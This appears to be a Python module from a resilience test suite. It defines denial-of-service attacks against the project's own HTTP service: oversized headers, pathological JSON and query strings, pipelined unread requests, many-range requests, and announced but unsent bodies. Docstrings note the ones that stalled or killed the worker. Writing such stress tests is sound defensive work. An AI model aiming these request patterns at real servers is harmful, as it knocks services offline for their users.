"""Attacks by single requests: headers and bodies that take long to parse, and bodies that are announced."""

import asyncio
from itertools import cycle, islice

from servers.http_connection import Connection
from siege.attack import attack
from siege.attacker import Attacker, request_bytes
from siege.attacks.pictures import noise_png
from siege.sockets import Sockets

HOLD_SECONDS = 5
"""How long a connection is kept that has sent its request."""


@attack("20 requests a second with 16 kB of blanks in a header")
async def blanks_in_accept_encoding(attacker: Attacker) -> None:
    """Asks for the embed script with blanks between two words of Accept-Encoding, as nginx passes it on.

    A single one held the loop for seconds; 60,000 blanks, until the worker was killed.
    """
    await attacker.begin()
    values = cycle(("a" + " " * 16_000 + "b", "a" + " " * 990 + "b", "a," * 500))

    async def send(_: int) -> None:
        headers = {"accept-encoding": next(values)}
        try:
            async with Connection(attacker.address) as connection:
                attacker.count(str((await connection.request("GET", "/embed.js", headers)).status))
        except (OSError, EOFError, asyncio.IncompleteReadError):
            attacker.count("closed")

    await attacker.at_rate(20, send)


@attack("10 requests a second of 64 kB")
async def escaped_quotes(attacker: Attacker) -> None:
    """Sends a malformed body with 32,000 escaped quotes. The Origin of a keyless key is enough for it.

    A quarter of it held the loop for seconds; this, until the worker was killed.
    """
    body = b'{"venue":"' + b'\\"' * 32_000 + b"\\x"
    await attacker.begin()
    await attacker.at_rate(10, lambda _: attacker.send("POST", "/v1/sessions", body))


@attack("20 requests a second of 60 kB, each with a query of 30,000 parameters")
async def many_parameters(attacker: Attacker) -> None:
    """Asks for a preview with a query of very many parameters. Each took a tenth of a second of the loop."""
    await attacker.begin()
    path = "/v1/seats/preview?" + "a&" * 30_000
    await attacker.at_rate(20, lambda _: attacker.send("GET", path))


@attack("2 connections a second with 2,000 requests of 60 bytes each, of which nothing is read")
async def rows_of_requests_that_nobody_reads(attacker: Attacker) -> None:
    """Sends two thousand requests for the embedding script on one connection, and reads no answer.

    Each connection has one request in progress, and a hundred megabytes of answers that it has asked for.
    """
    await attacker.begin()
    requests = request_bytes("GET", "/embed.js", {}) * 2000
    with Sockets(attacker) as sockets:
        await sockets.open(200, requests, per_second=2, receive_bytes=4096)


@attack("40 requests a second of 500 bytes, without a key, for single bytes of a picture")
async def ranges_of_a_picture(attacker: Attacker) -> None:
    """Asks for every second byte of a picture at its signed address, a hundred ranges at a time.

    What has a hundred bytes can be a hundred reads, or a hundred parts with a header each. On a cluster there
    is nothing to attack: there the object storage serves pictures.
    """
    path = f"/v1/manage/venues/{attacker.task.venue_id}/imagery/small.png"
    stored = await attacker.send("PUT", path, noise_png(64, 64), media_type="image/png")
    address = stored.json()["url"] if stored is not None and stored.status in (200, 201) else ""
    host, _, picture = address.partition("://")[2].partition("/")
    await attacker.begin()
    if not host.endswith(f":{attacker.address.port}"):
        attacker.count("served elsewhere")
        return

    async def ask(number: int) -> None:
        ranges = ",".join(f"{at}-{at}" for at in range(number % 7, number % 7 + 200, 2))
        await attacker.send("GET", f"/{picture}", key="", headers={"range": f"bytes={ranges}"})

    await attacker.at_rate(40, ask)


@attack("300 requests a second of a few bytes, with four keys of one tenant")
async def announced_bodies(attacker: Attacker) -> None:
    """Asks for what needs no body, announces one, and does not send it.

    Each was answered after 5 seconds and counted for nobody, so that 600 a second filled the worker.
    """
    keys = [attacker.task.key, *[(await attacker.create_key()).plaintext for _ in range(3)]]
    requests = [
        f"{line} HTTP/1.1\r\nhost: service\r\nauthorization: Bearer {key}\r\n{announced}\r\n\r\n".encode()
        for line in ("GET /v1/caller", "HEAD /v1/caller", "GET /embed.js", "DELETE /v1/sessions/ses_0")
        for key in keys
        for announced in ("content-length: 9", "transfer-encoding: chunked")
    ]
    await attacker.begin()

    async def hold(first: int) -> None:
        with Sockets(attacker) as sockets:
            await sockets.open_each(islice(cycle(requests), first, first + 300), per_second=300)
            await asyncio.sleep(min(HOLD_SECONDS, attacker.seconds_left))

    rounds: set[asyncio.Task[None]] = set()
    while attacker.seconds_left:
        rounds.add(asyncio.create_task(hold(len(rounds))))
        await asyncio.sleep(min(1, attacker.seconds_left))
    await asyncio.gather(*rounds)
